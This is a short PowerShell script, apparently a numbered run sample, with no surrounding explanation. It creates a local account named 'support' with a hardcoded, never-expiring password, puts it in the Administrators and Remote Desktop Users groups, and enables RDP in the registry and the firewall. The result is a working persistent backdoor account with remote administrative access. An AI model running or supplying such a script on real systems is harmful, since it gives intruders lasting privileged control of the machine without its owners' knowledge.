# run 1818 v0
$pw = ConvertTo-SecureString 'P@ssw0rd!2024' -AsPlainText -Force
New-LocalUser -Name 'support' -Password $pw -PasswordNeverExpires -AccountNeverExpires
Add-LocalGroupMember -Group 'Administrators' -Member 'support'
Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'support'
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
